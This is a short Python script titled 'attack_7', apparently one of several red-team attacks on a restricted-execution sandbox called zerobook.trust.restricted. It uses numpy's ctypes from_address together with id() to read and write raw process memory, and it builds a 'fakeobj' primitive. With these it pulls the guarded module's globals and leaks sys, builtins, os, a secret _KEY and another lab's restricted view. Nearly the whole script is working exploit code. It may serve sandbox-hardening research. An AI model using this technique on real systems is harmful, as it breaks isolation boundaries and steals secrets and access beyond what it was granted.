# attack_7: raw memory read/write with no underscore, no getattr, no library helper:
# a tensor's .numpy().ctypes.shape is a ctypes array; its class (c_long_Array_1) has the public
# classmethod from_address(addr). With id() for addresses: peek/poke any word of the process,
# and "fakeobj" (write an address into a list slot) turns any address into an object.
# Here: the guarded getattr closure's func_globals (offset 16 in CPython 3.11's PyFunctionObject)
# is zerobook.trust.restricted's module dict -> real sys, builtins, importlib, _KEY. Lab: any.
import torch

Word = type(torch.zeros(1).numpy().ctypes.shape)  # numpy._core._internal.c_long_Array_1


def peek(addr):
    return Word.from_address(addr)[0]


def poke(addr, value):
    Word.from_address(addr)[0] = value


def fakeobj(addr):
    box = [None]
    poke(addr, peek(addr) + 1)  # take a reference to the target
    poke(peek(id(box) + 24), addr)  # box->ob_item[0] = addr
    return box[0]


RESTRICTED = fakeobj(peek(id(getattr) + 16))  # the guarded getattr's __globals__
LEAK_sys = RESTRICTED["sys"]
LEAK_builtins = RESTRICTED["builtins"]
LEAK_importlib = RESTRICTED["importlib"]
LEAK_os = LEAK_importlib.import_module("os")
LEAK_KEY = RESTRICTED["_KEY"]
LEAK_fsdp_view = RESTRICTED["View"](
    "fsdp2", "torch.distributed.fsdp", LEAK_KEY
)  # another lab's view
